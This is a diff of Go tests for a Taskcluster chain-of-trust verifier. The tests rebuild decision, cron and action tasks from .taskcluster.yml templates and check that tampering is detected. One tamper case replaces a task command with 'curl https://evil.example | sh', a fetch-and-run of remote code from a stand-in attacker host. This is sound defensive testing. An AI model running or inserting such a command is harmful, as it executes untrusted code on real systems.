@@ -19,13 +19,18 @@ import (
 
 	"github.com/signet-dev/signet/cot"
 	"github.com/signet-dev/signet/cot/cottest"
+	"github.com/signet-dev/signet/internal/thirdparty"
 )
 
 // The rebuild tests build graphs whose decision, cron and action tasks are
-// rendered from real .taskcluster.yml files (testdata/rebuild, see its
-// README) by the reference json-e implementation (npm json-e under node),
-// and verify them with the Go interpreter: two implementations must agree
-// for a good graph to verify.
+// rendered from .taskcluster.yml templates by the reference json-e
+// implementation (npm json-e under node), and verify them with the Go
+// interpreter: two implementations must agree for a good graph to verify.
+// The templates are testdata/rebuild/hg-project.taskcluster.yml and
+// github-project.taskcluster.yml, written for these tests in the shape of
+// an hg and a GitHub project; the same tests run as well on real projects'
+// files (gecko's and reference-browser's) when the third-party test-data
+// directory holds them (internal/thirdparty), and skip saying so when not.
 
 const referenceJSONe = "4.8.4"
 
@@ -86,11 +91,37 @@ process.stdout.write(JSON.stringify(jsone(input.template, ctx)));
 	}
 }
 
+// Templates written for these tests, and real projects' files read from
+// the third-party test-data directory.
+const (
+	hgFixture        = "hg-project.taskcluster.yml"
+	githubFixture    = "github-project.taskcluster.yml"
+	geckoFixture     = "gecko.taskcluster.yml"
+	mobileFixture    = "reference-browser.taskcluster.yml"
+	thirdPartyPrefix = "taskcluster/"
+)
+
+// decisionPool is the worker pool a fixture's decision task runs in.
+var decisionPool = map[string]string{
+	hgFixture:     "hg-3/decision",
+	geckoFixture:  "aws-provisioner-v1/gecko-3-decision",
+	githubFixture: "gh-3/decision",
+	mobileFixture: "mobile-3/decision",
+}
+
+// loadFixture reads a template: one of testdata/rebuild, or a real
+// project's file from the third-party test-data directory (skipping the
+// test, with the file's name and place, when it is not there).
 func loadFixture(t *testing.T, name string) (string, any) {
 	t.Helper()
-	b, err := os.ReadFile(filepath.Join("testdata", "rebuild", name))
-	if err != nil {
-		t.Fatal(err)
+	var b []byte
+	if name == geckoFixture || name == mobileFixture {
+		b = thirdparty.Read(t, thirdPartyPrefix+name)
+	} else {
+		var err error
+		if b, err = os.ReadFile(filepath.Join("testdata", "rebuild", name)); err != nil {
+			t.Fatal(err)
+		}
 	}
 	var v any
 	if err := yaml.Unmarshal(b, &v); err != nil {
@@ -166,12 +197,12 @@ func geckoTrust(y string) string {
 	y = strings.Replace(y, `'^(?P<path>/releases/product)(/|$)', '^(?P<path>/try)(/|$)'`, `'^(?P<path>/releases/mozilla-beta)(/|$)'`, 1)
 	y = strings.Replace(y, "release: [/releases/product]", "release: [/releases/mozilla-beta]", 1)
 	y = strings.Replace(y, "source_env_prefix: PRODUCT", "source_env_prefix: GECKO", 1)
-	y = strings.Replace(y, "decision_worker_pools: [test-3/decision]", "decision_worker_pools: [test-3/decision, aws-provisioner-v1/gecko-3-decision]", 1)
+	y = strings.Replace(y, "decision_worker_pools: [test-3/decision]", "decision_worker_pools: [test-3/decision, hg-3/decision, aws-provisioner-v1/gecko-3-decision]", 1)
 	return y + "project_levels: {/releases/mozilla-beta: '3'}\n"
 }
 
 // geckoScenario is a graph whose decision task (and, for "action", an
-// action task) was rendered from gecko's .taskcluster.yml.
+// action task) was rendered from an hg project's .taskcluster.yml.
 type scenario struct {
 	g        *cottest.Graph
 	o        cot.Options
@@ -183,9 +214,13 @@ type scenario struct {
 }
 
 func geckoScenario(t *testing.T, tasksFor string) *scenario {
+	return hgScenario(t, tasksFor, hgFixture)
+}
+
+func hgScenario(t *testing.T, tasksFor, fixture string) *scenario {
 	t.Helper()
+	body, tmpl := loadFixture(t, fixture)
 	render := referenceRenderer(t)
-	body, tmpl := loadFixture(t, "gecko.taskcluster.yml")
 	g := cottest.New(cottest.Options{})
 	g.UseRepository(geckoRepo)
 	dec := g.ByRole["decision"]
@@ -232,7 +267,7 @@ func geckoScenario(t *testing.T, tasksFor string) *scenario {
 			"extra": map[string]any{"actionPerm": "generic"},
 		}}}
 		dec.Artifacts["public/actions.json"], _ = json.Marshal(actions)
-		act := g.Add("action", "docker-worker", "aws-provisioner-v1/gecko-3-decision", dec)
+		act := g.Add("action", "docker-worker", decisionPool[fixture], dec)
 		target := g.ByRole["build-windows"].ID
 		input := map[string]any{"times": json.Number("2")}
 		payload := render(hookPayload, map[string]any{"input": input, "parameters": params, "taskGroupId": dec.ID, "taskId": target}, nil)
@@ -295,24 +330,27 @@ func rebuildChecks(res *cot.Result) map[string]cot.Check {
 	return out
 }
 
-// TestRebuildGecko verifies graphs rendered from gecko's .taskcluster.yml
-// for a push, a cron run and an action, with --require-rebuild, fetching
-// the template and the pushlog over HTTPS.
+// TestRebuildGecko verifies graphs rendered from an hg project's
+// .taskcluster.yml (the one written for these tests, and gecko's real one
+// from the third-party directory) for a push, a cron run and an action,
+// with --require-rebuild, fetching the template and the pushlog over HTTPS.
 func TestRebuildGecko(t *testing.T) {
-	for _, tasksFor := range []string{"hg-push", "cron", "action"} {
-		t.Run(tasksFor, func(t *testing.T) {
-			s := geckoScenario(t, tasksFor)
-			res := verify(t, s.g, s.root, s.o)
-			if !res.Verified {
-				t.Fatalf("did not verify:\n%s", tree(res))
-			}
-			checks := rebuildChecks(res)
-			for _, id := range []string{s.g.ByRole["decision"].ID, s.parent.ID} {
-				if c := checks[id]; c.Status != cot.OK || !strings.Contains(c.Detail, "equals its definition") {
-					t.Errorf("rebuild of %s: %+v\n%s", id, c, tree(res))
+	for _, fixture := range []string{hgFixture, geckoFixture} {
+		for _, tasksFor := range []string{"hg-push", "cron", "action"} {
+			t.Run(fixture+"/"+tasksFor, func(t *testing.T) {
+				s := hgScenario(t, tasksFor, fixture)
+				res := verify(t, s.g, s.root, s.o)
+				if !res.Verified {
+					t.Fatalf("did not verify:\n%s", tree(res))
 				}
-			}
-		})
+				checks := rebuildChecks(res)
+				for _, id := range []string{s.g.ByRole["decision"].ID, s.parent.ID} {
+					if c := checks[id]; c.Status != cot.OK || !strings.Contains(c.Detail, "equals its definition") {
+						t.Errorf("rebuild of %s: %+v\n%s", id, c, tree(res))
+					}
+				}
+			})
+		}
 	}
 }
 
@@ -330,9 +368,9 @@ func TestRebuildTampered(t *testing.T) {
 			name: "command of the decision task", tasksFor: "hg-push",
 			tamper: func(s *scenario) {
 				cmd := s.parent.Def["payload"].(map[string]any)["command"].([]any)
-				cmd[6] = "curl https://evil.example | sh"
+				cmd[5] = "curl https://evil.example | sh"
 			},
-			want: `at payload.command[6]: rebuilt "cd /builds/worker/checkouts/gecko`,
+			want: `at payload.command[5]: rebuilt "cd /builds/worker/checkouts/src \u0026\u0026 ./tools/taskgraph decision --project=mozilla-beta`,
 		},
 		{
 			name: "scope added to the decision task", tasksFor: "cron",
@@ -347,7 +385,7 @@ func TestRebuildTampered(t *testing.T) {
 			tamper: func(s *scenario) {
 				s.parent.Def["payload"].(map[string]any)["image"] = "taskcluster/decision:evil"
 			},
-			want: `at payload.image: rebuilt "taskcluster/decision:2.1.0@sha256:`,
+			want: `at payload.image: rebuilt "example.org/hg-decision:1.0@sha256:`,
 		},
 		{
 			name: "pusher differs from the pushlog", tasksFor: "hg-push",
@@ -355,14 +393,14 @@ func TestRebuildTampered(t *testing.T) {
 				s.in.set("hg.mozilla.org/releases/mozilla-beta/json-pushes?changeset="+cottest.Rev+"&version=2&full=1",
 					`{"pushes": {"1234": {"changesets": [{"desc": "x", "parents": ["`+strings.Repeat("f", 40)+`"]}], "date": 1740830400, "user": "mallory@example.org"}}}`)
 			},
-			want: `at metadata.owner: rebuilt "mallory@example.org", runtime "releaser@example.org"`,
+			want: `at metadata.description: rebuilt "Pushed 1740830400 by mallory@example.org", runtime "Pushed 1740830400 by releaser@example.org"`,
 		},
 		{
 			name: ".taskcluster.yml differs at the revision", tasksFor: "hg-push",
 			tamper: func(s *scenario) {
-				s.in.set("hg.mozilla.org/releases/mozilla-beta/raw-file/"+cottest.Rev+"/.taskcluster.yml", strings.Replace(s.tmplBody, "maxRunTime: 1800", "maxRunTime: 600", 1))
+				s.in.set("hg.mozilla.org/releases/mozilla-beta/raw-file/"+cottest.Rev+"/.taskcluster.yml", strings.Replace(s.tmplBody, "maxRunTime: 2700", "maxRunTime: 600", 1))
 			},
-			want: `at payload.maxRunTime: rebuilt 600, runtime 1800`,
+			want: `at payload.maxRunTime: rebuilt 600, runtime 2700`,
 		},
 	}
 	for _, tc := range tests {
@@ -420,19 +458,19 @@ func mobileTrust(y string) string {
 	y = strings.Replace(y, `'^(?P<path>/releases/product)(/|$)', '^(?P<path>/try)(/|$)'`, `'^(?P<path>/mozilla-mobile/reference-browser)(/|$)'`, 1)
 	y = strings.Replace(y, "release: [/releases/product]", "release: [/mozilla-mobile/reference-browser]", 1)
 	y = strings.Replace(y, "source_env_prefix: PRODUCT", "source_env_prefix: MOBILE", 1)
-	y = strings.Replace(y, "decision_worker_pools: [test-3/decision]", "decision_worker_pools: [test-3/decision, mobile-3/decision, mobile-1/decision]", 1)
+	y = strings.Replace(y, "decision_worker_pools: [test-3/decision]", "decision_worker_pools: [test-3/decision, gh-3/decision, gh-1/decision, mobile-3/decision, mobile-1/decision]", 1)
 	y = strings.Replace(y, "tasks_for: [hg-push, cron, action]", "tasks_for: [github-push, github-pull-request, github-release, cron, action]", 1)
 	return y + "vcs: github\nofficial_github_repos_owner: mozilla-mobile\nproject_levels: {/mozilla-mobile/reference-browser: '3'}\n"
 }
 
 func mobileScenario(t *testing.T, tasksFor string) *scenario {
-	return mobileScenarioFrom(t, tasksFor, "reference-browser.taskcluster.yml")
+	return mobileScenarioFrom(t, tasksFor, githubFixture)
 }
 
 func mobileScenarioFrom(t *testing.T, tasksFor, fixture string) *scenario {
 	t.Helper()
-	render := referenceRenderer(t)
 	body, tmpl := loadFixture(t, fixture)
+	render := referenceRenderer(t)
 	g := cottest.New(cottest.Options{})
 	g.UseRepository(mobileRepo)
 	dec := g.ByRole["decision"]
@@ -493,7 +531,7 @@ func mobileScenarioFrom(t *testing.T, tasksFor, fixture string) *scenario {
 			"hookPayload": hookPayload,
 		}}}
 		dec.Artifacts["public/actions.json"], _ = json.Marshal(actions)
-		act := g.Add("action", "docker-worker", "mobile-3/decision", dec)
+		act := g.Add("action", "docker-worker", decisionPool[fixture], dec)
 		target := g.ByRole["build-windows"].ID
 		payload := render(hookPayload, map[string]any{"input": map[string]any{}, "parameters": nil, "taskGroupId": dec.ID, "taskId": target}, nil)
 		// No actionPerm and a hook id without "generic/": the permission is
@@ -537,29 +575,36 @@ func mobileScenarioFrom(t *testing.T, tasksFor, fixture string) *scenario {
 	return s
 }
 
-// TestRebuildGitHub verifies graphs rendered from reference-browser's
-// .taskcluster.yml for a GitHub push, a cron run and an action, the push context
-// completed from the GitHub API (through a loopback fake), and fails one
-// whose template at the commit was changed.
+// TestRebuildGitHub verifies graphs rendered from a GitHub project's
+// .taskcluster.yml (the one written for these tests, and reference-browser's
+// real one from the third-party directory) for a GitHub push, a cron run
+// and an action, the push context completed from the GitHub API (through a
+// loopback fake), and fails one whose template at the commit was changed.
 func TestRebuildGitHub(t *testing.T) {
-	for _, tasksFor := range []string{"github-push", "cron", "action"} {
-		t.Run(tasksFor, func(t *testing.T) {
-			s := mobileScenario(t, tasksFor)
-			res := verify(t, s.g, s.root, s.o)
-			if !res.Verified {
-				t.Fatalf("did not verify:\n%s", tree(res))
-			}
-			if c := rebuildChecks(res)[s.parent.ID]; c.Status != cot.OK {
-				t.Fatalf("rebuild: %+v", c)
-			}
-			s.in.set("raw.githubusercontent.com/mozilla-mobile/reference-browser/"+cottest.Rev+"/.taskcluster.yml",
-				strings.Replace(s.tmplBody, "taskclusterProxy: true", "taskclusterProxy: false", 1))
-			res = verify(t, s.g, s.root, s.o)
-			c := rebuildChecks(res)[s.parent.ID]
-			if res.Verified || !strings.Contains(c.Detail, "at payload.features.taskclusterProxy: rebuilt false, runtime true") {
-				t.Fatalf("a changed template passed: %+v\n%s", c, tree(res))
-			}
-		})
+	for _, fixture := range []string{githubFixture, mobileFixture} {
+		for _, tasksFor := range []string{"github-push", "cron", "action"} {
+			t.Run(fixture+"/"+tasksFor, func(t *testing.T) {
+				testRebuildGitHub(t, fixture, tasksFor)
+			})
+		}
+	}
+}
+
+func testRebuildGitHub(t *testing.T, fixture, tasksFor string) {
+	s := mobileScenarioFrom(t, tasksFor, fixture)
+	res := verify(t, s.g, s.root, s.o)
+	if !res.Verified {
+		t.Fatalf("did not verify:\n%s", tree(res))
+	}
+	if c := rebuildChecks(res)[s.parent.ID]; c.Status != cot.OK {
+		t.Fatalf("rebuild: %+v", c)
+	}
+	s.in.set("raw.githubusercontent.com/mozilla-mobile/reference-browser/"+cottest.Rev+"/.taskcluster.yml",
+		strings.Replace(s.tmplBody, "taskclusterProxy: true", "taskclusterProxy: false", 1))
+	res = verify(t, s.g, s.root, s.o)
+	c := rebuildChecks(res)[s.parent.ID]
+	if res.Verified || !strings.Contains(c.Detail, "at payload.features.taskclusterProxy: rebuilt false, runtime true") {
+		t.Fatalf("a changed template passed: %+v\n%s", c, tree(res))
 	}
 }
 
@@ -568,7 +613,13 @@ func TestRebuildGitHub(t *testing.T) {
 // serves; when the API's pull request names another head branch than the
 // task, the rebuild fails naming the path.
 func TestRebuildPullRequest(t *testing.T) {
-	s := mobileScenario(t, "github-pull-request")
+	for _, fixture := range []string{githubFixture, mobileFixture} {
+		t.Run(fixture, func(t *testing.T) { testRebuildPullRequest(t, fixture) })
+	}
+}
+
+func testRebuildPullRequest(t *testing.T, fixture string) {
+	s := mobileScenarioFrom(t, "github-pull-request", fixture)
 	// A build, not a signing task: a chain with restricted scopes would
 	// refuse the pull request before any rebuild mattered.
 	s.o.TaskType = "build"
@@ -585,17 +636,23 @@ func TestRebuildPullRequest(t *testing.T) {
 	s.in.set(key, strings.Replace(s.in.files[key], `"ref":"fix-thing"`, `"ref":"other-branch"`, 1))
 	res = verify(t, s.g, "build-windows", s.o)
 	c := rebuildChecks(res)[s.parent.ID]
-	if res.Verified || !strings.Contains(c.Detail, `at payload.env.MOBILE_HEAD_REF: rebuilt "other-branch", runtime "fix-thing"`) {
+	// The first difference, in key order, is where the template uses the
+	// branch first.
+	want := map[string]string{
+		githubFixture: `at payload.command[5]: rebuilt "cd /builds/worker/checkouts/src \u0026\u0026 taskgraph decision --tasks-for=github-pull-request --level=1 --owner=contributor@users.noreply.github.com --head-ref=other-branch `,
+		mobileFixture: `at payload.env.MOBILE_HEAD_REF: rebuilt "other-branch", runtime "fix-thing"`,
+	}[fixture]
+	if res.Verified || !strings.Contains(c.Detail, want) {
 		t.Fatalf("a pull request whose head branch differs passed: %+v\n%s", c, tree(res))
 	}
 }
 
 // TestRebuildRelease rebuilds a decision task made for a GitHub release,
-// the event completed from the release the GitHub API serves. No real
-// fixture renders a release (reference-browser's reaches cron fields), so
-// this one is a small template of the same shape, testdata/rebuild/release.taskcluster.yml.
+// the event completed from the release the GitHub API serves.
+// (reference-browser's real file cannot render a release: it reaches cron
+// fields.)
 func TestRebuildRelease(t *testing.T) {
-	s := mobileScenarioFrom(t, "github-release", "release.taskcluster.yml")
+	s := mobileScenarioFrom(t, "github-release", githubFixture)
 	res := verify(t, s.g, s.root, s.o)
 	if !res.Verified {
 		t.Fatalf("did not verify:\n%s", tree(res))
